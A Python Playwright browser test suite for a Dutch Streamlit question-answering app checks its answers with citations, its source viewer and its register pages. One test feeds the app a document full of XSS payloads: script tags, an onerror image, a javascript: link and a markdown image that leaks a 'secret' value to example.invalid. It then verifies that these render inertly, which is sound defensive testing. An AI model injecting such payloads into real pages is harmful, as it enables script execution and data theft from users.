"""The real app in a real browser: `streamlit run` on a local port, driven by headless Debian Chromium through Playwright."""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import ROOT, corpus_index_with, free_port
from .loadtest import BROWSER_ARGS, CHROMIUM, wait_healthy

ARTIFACTS = ROOT / "test-artifacts"
HOSTILE = (
    "Schoolreis naar Parijs <img src=x onerror=alert(1)>\n\n"
    "Het schoolreisje naar Parijs kost 450 euro per leerling volgens de ouderraad <script>alert(2)</script> "
    "en [klik hier](javascript:alert(3)) ![](http://example.invalid/?d=secret) bij de aanmelding.\n"
)

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900), pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (make browser)")]


@pytest.fixture(scope="module")
def app(corpus_settings, tmp_path_factory):
    """The app over a copy of the corpus index, plus a document full of hostile markup (in its name too)."""
    settings = corpus_index_with(corpus_settings, tmp_path_factory.mktemp("browser"), {"schoolreis <img src=x onerror=alert(4)>.txt": HOSTILE})
    data = settings.data_dir
    port = free_port()
    env = {**os.environ, "KANSENWIJZER_DATA_DIR": str(data)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.port", str(port), "--server.headless", "true"],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    wait_healthy(port, proc)
    yield {"url": f"http://127.0.0.1:{port}"}
    proc.terminate()
    proc.wait(timeout=20)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        yield b
        b.close()


def open_page(browser, url):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(0)  # no time limits: a busy machine is slow, not wrong (the module's pytest timeout guards hangs)
    events = {"dialogs": [], "requests": []}
    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: events["requests"].append(r.url))
    page.goto(url)
    page.get_by_text("Zoeken in", exact=True).first.wait_for()
    return page, events


def ask(page, question: str) -> None:
    box = page.get_by_placeholder("Stel een vraag over kansengelijkheid…")
    box.fill(question)
    box.press("Enter")
    page.get_by_text("gezocht in:").last.wait_for()
    # The conversation buttons come last in a run: once they show, the whole answer with its cards is there.
    page.get_by_role("button", name="Nieuw gesprek").wait_for()


def test_ask_see_the_citation_and_open_the_source(app, browser):
    ARTIFACTS.mkdir(exist_ok=True)
    page, _ = open_page(browser, app["url"])
    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
    answer = page.get_by_test_id("stChatMessage").last
    assert "52 mln" in answer.inner_text() and "[1]" in answer.inner_text()
    assert "kenmerk 35735585" in answer.inner_text()
    highlight = answer.locator("span", has_text="52 mln").first
    assert highlight.is_visible()
    page.screenshot(path=str(ARTIFACTS / "chat-answer.png"), full_page=True)
    answer.get_by_role("button", name="Bekijk in document").first.click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text("52 mln", exact=False).first.wait_for()
    assert "kenmerk 35735585" in dialog.inner_text()
    assert dialog.locator("span", has_text="structureel verhogen met € 105 miljoen").first.is_visible()
    page.screenshot(path=str(ARTIFACTS / "source-viewer.png"))
    page.close()


def test_hostile_markup_in_a_document_shows_as_text(app, browser):
    page, events = open_page(browser, app["url"])
    ask(page, "Hoeveel kost het schoolreisje naar Parijs per leerling?")
    answer = page.get_by_test_id("stChatMessage").last
    text = answer.inner_text()
    assert "450 euro" in text
    assert "<script>alert(2)</script>" in text and "[klik hier](javascript:alert(3))" in text
    assert "![](http://example.invalid/?d=secret)" in text
    page.wait_for_timeout(1500)
    assert events["dialogs"] == []
    assert not [u for u in events["requests"] if "example.invalid" in u]
    assert page.locator('img[src="x"]').count() == 0 and page.locator('a[href^="javascript"]').count() == 0
    assert page.locator("script", has_text="alert(2)").count() == 0
    page.screenshot(path=str(ARTIFACTS / "hostile-document.png"), full_page=True)
    page.close()


def test_registers_pages_render(app, browser):
    page, _ = open_page(browser, app["url"] + "/toezeggingen")
    page.get_by_text("toezeggingen", exact=False).first.wait_for()
    page.get_by_text("van 7", exact=False).first.wait_for()
    page.get_by_test_id("stDataFrame").first.wait_for()
    page.wait_for_timeout(1500)  # the grid draws on a canvas after it appears
    page.screenshot(path=str(ARTIFACTS / "toezeggingen.png"), full_page=True)
    page.goto(app["url"] + "/maatregelen?thema=armoede")
    page.get_by_text("#FixdeKloof", exact=False).first.wait_for()
    page.screenshot(path=str(ARTIFACTS / "maatregelen.png"), full_page=True)
    page.close()
